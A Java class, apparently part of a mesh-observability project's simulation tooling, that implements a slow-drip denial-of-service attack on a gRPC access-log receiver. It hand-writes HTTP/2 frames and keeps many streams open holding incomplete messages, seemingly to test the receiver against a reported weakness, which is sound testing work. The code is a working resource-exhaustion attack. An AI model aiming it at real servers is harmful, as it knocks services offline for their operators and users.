package io.meshscope.client.simulate;

import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicLong;

/**
 * The slow-drip attack on the receiver (issue 17): over plain HTTP/2, each stream sends an ALS call's
 * headers and a gRPC message prefix announcing {@code messageBytes}, then all of the message but its
 * last byte, and stops: the message is never complete, so gRPC holds what came. A gRPC client cannot
 * do this (it sends whole messages), hence frames written by hand: only what the attack needs, with
 * the server's flow-control windows obeyed so that the server has no reason to refuse the bytes.
 */
public final class SlowDrip implements AutoCloseable {

  private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
  private static final int DATA = 0;
  private static final int HEADERS = 1;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int GOAWAY = 7;
  private static final int WINDOW_UPDATE = 8;
  private static final int RST_STREAM = 3;
  private static final int MAX_FRAME = 16_384;

  private final List<Connection> connections = new ArrayList<>();
  /** Message bytes handed to the server over all streams, and streams the server reset or refused. */
  private final AtomicLong bytesSent = new AtomicLong();
  private final AtomicLong streamsRefused = new AtomicLong();
  private final AtomicLong connectionsEnded = new AtomicLong();

  /**
   * Opens {@code connections} connections of {@code streamsEach} streams and fills each stream with
   * all but the last byte of a {@code messageBytes} message, in the background; with
   * {@code messageBytes} 0 the streams open and never send.
   */
  public static SlowDrip start(String host, int port, int connections, int streamsEach, int messageBytes)
      throws IOException {
    return start(host, port, null, connections, streamsEach, messageBytes);
  }

  /** @param from the local address to connect from (one attacking pod); null for any */
  public static SlowDrip start(String host, int port, java.net.InetAddress from, int connections, int streamsEach,
      int messageBytes) throws IOException {
    SlowDrip drip = new SlowDrip();
    for (int c = 0; c < connections; c++) {
      Socket socket = from == null ? new Socket(host, port) : new Socket(host, port, from, 0);
      Connection conn = drip.new Connection(socket, host + ":" + port, streamsEach, messageBytes);
      drip.connections.add(conn);
      conn.start();
    }
    return drip;
  }

  /** Message bytes handed to the server over all streams. */
  public long bytesSent() {
    return bytesSent.get();
  }

  /** Streams the server reset (RST_STREAM): those it closed. */
  public long streamsReset() {
    return streamsRefused.get();
  }

  /** Connections the server ended (GOAWAY, or the socket closed). */
  public long connectionsEnded() {
    return connectionsEnded.get();
  }

  @Override
  public void close() {
    connections.forEach(Connection::close);
  }

  private final class Connection {
    final Socket socket;
    final OutputStream out;
    final String authority;
    final int streams;
    final int messageBytes;
    /** Send windows: the connection's (key 0) and each stream's, as the server grants them. */
    final Map<Integer, Long> windows = new HashMap<>();
    long initialStreamWindow = 65_535;
    volatile boolean closed;

    Connection(Socket socket, String authority, int streams, int messageBytes) throws IOException {
      this.socket = socket;
      this.out = socket.getOutputStream();
      this.authority = authority;
      this.streams = streams;
      this.messageBytes = messageBytes;
      windows.put(0, 65_535L);
    }

    void start() throws IOException {
      out.write(PREFACE);
      frame(SETTINGS, 0, 0, new byte[0]);
      Thread reader = new Thread(this::read, "slow-drip-reader");
      reader.setDaemon(true);
      reader.start();
      Thread writer = new Thread(this::write, "slow-drip-writer");
      writer.setDaemon(true);
      writer.start();
    }

    private void write() {
      try {
        List<Integer> ids = new ArrayList<>();
        Map<Integer, Integer> left = new HashMap<>();
        for (int s = 0; s < streams; s++) {
          int id = 1 + 2 * s;
          ids.add(id);
          synchronized (this) {
            windows.put(id, initialStreamWindow);
          }
          frame(HEADERS, 0x4, id, headers());
          if (messageBytes <= 0) {
            continue; // a stream that opens and never sends
          }
          // The gRPC prefix: not compressed, then the length of a message that never completes.
          byte[] prefix = {0, (byte) (messageBytes >>> 24), (byte) (messageBytes >>> 16), (byte) (messageBytes >>> 8),
              (byte) messageBytes};
          send(id, prefix);
          left.put(id, messageBytes - 1);
        }
        byte[] zeros = new byte[MAX_FRAME];
        while (!closed && !left.isEmpty()) {
          boolean progressed = false;
          for (int id : ids) {
            Integer n = left.get(id);
            if (n == null) {
              continue;
            }
            int chunk;
            synchronized (this) {
              chunk = (int) Math.min(Math.min(n, MAX_FRAME), Math.min(windows.get(0), windows.getOrDefault(id, 0L)));
            }
            if (chunk > 0) {
              send(id, java.util.Arrays.copyOf(zeros, chunk));
              bytesSent.addAndGet(chunk);
              progressed = true;
              if (n - chunk == 0) {
                left.remove(id);
              } else {
                left.put(id, n - chunk);
              }
            }
          }
          if (!progressed) {
            synchronized (this) {
              wait(100); // for a WINDOW_UPDATE
            }
          }
        }
      } catch (IOException | InterruptedException e) {
        // closed
      }
    }

    private void send(int id, byte[] data) throws IOException {
      synchronized (this) {
        windows.merge(0, (long) -data.length, Long::sum);
        windows.merge(id, (long) -data.length, Long::sum);
      }
      frame(DATA, 0, id, data);
    }

    private byte[] headers() {
      java.io.ByteArrayOutputStream b = new java.io.ByteArrayOutputStream();
      literal(b, ":method", "POST");
      literal(b, ":scheme", "http");
      literal(b, ":path", "/envoy.service.accesslog.v3.AccessLogService/StreamAccessLogs");
      literal(b, ":authority", authority);
      literal(b, "content-type", "application/grpc");
      literal(b, "te", "trailers");
      return b.toByteArray();
    }

    /** HPACK literal header field without indexing, new name, no Huffman (RFC 7541, 6.2.2). */
    private void literal(java.io.ByteArrayOutputStream b, String name, String value) {
      b.write(0);
      string(b, name);
      string(b, value);
    }

    private void string(java.io.ByteArrayOutputStream b, String s) {
      byte[] bytes = s.getBytes(StandardCharsets.US_ASCII);
      if (bytes.length >= 127) {
        throw new IllegalArgumentException("header too long for this encoder: " + s);
      }
      b.write(bytes.length);
      b.write(bytes, 0, bytes.length);
    }

    private synchronized void frame(int type, int flags, int stream, byte[] payload) throws IOException {
      byte[] h = {(byte) (payload.length >>> 16), (byte) (payload.length >>> 8), (byte) payload.length, (byte) type,
          (byte) flags, (byte) (stream >>> 24), (byte) (stream >>> 16), (byte) (stream >>> 8), (byte) stream};
      out.write(h);
      out.write(payload);
      out.flush();
    }

    private void read() {
      try (DataInputStream in = new DataInputStream(socket.getInputStream())) {
        while (!closed) {
          int length = (in.readUnsignedByte() << 16) | (in.readUnsignedByte() << 8) | in.readUnsignedByte();
          int type = in.readUnsignedByte();
          int flags = in.readUnsignedByte();
          int stream = in.readInt() & 0x7fffffff;
          byte[] payload = in.readNBytes(length);
          switch (type) {
            case SETTINGS -> {
              if ((flags & 0x1) == 0) {
                settings(payload);
                frame(SETTINGS, 0x1, 0, new byte[0]);
              }
            }
            case WINDOW_UPDATE -> {
              long increment = ((payload[0] & 0x7fL) << 24) | ((payload[1] & 0xffL) << 16)
                  | ((payload[2] & 0xffL) << 8) | (payload[3] & 0xffL);
              synchronized (this) {
                windows.merge(stream, increment, Long::sum);
                notifyAll();
              }
            }
            case PING -> {
              if ((flags & 0x1) == 0) {
                frame(PING, 0x1, 0, payload);
              }
            }
            case RST_STREAM -> {
              streamsRefused.incrementAndGet();
              synchronized (this) {
                windows.put(stream, Long.MIN_VALUE / 2); // never send on it again
              }
            }
            case GOAWAY -> {
              connectionsEnded.incrementAndGet();
              return;
            }
            default -> {
              // HEADERS (the server's answer when it refuses a stream), DATA: nothing to do
            }
          }
        }
      } catch (IOException e) {
        if (!closed) {
          connectionsEnded.incrementAndGet();
        }
      }
    }

    private void settings(byte[] payload) {
      for (int i = 0; i + 6 <= payload.length; i += 6) {
        int id = ((payload[i] & 0xff) << 8) | (payload[i + 1] & 0xff);
        long value = ((payload[i + 2] & 0xffL) << 24) | ((payload[i + 3] & 0xffL) << 16)
            | ((payload[i + 4] & 0xffL) << 8) | (payload[i + 5] & 0xffL);
        if (id == 0x4) { // SETTINGS_INITIAL_WINDOW_SIZE: moves every stream's window by the difference
          synchronized (this) {
            long delta = value - initialStreamWindow;
            initialStreamWindow = value;
            windows.replaceAll((k, v) -> k == 0 ? v : v + delta);
            notifyAll();
          }
        }
      }
    }

    void close() {
      closed = true;
      try {
        socket.close();
      } catch (IOException ignored) {
        // closing anyway
      }
    }
  }
}
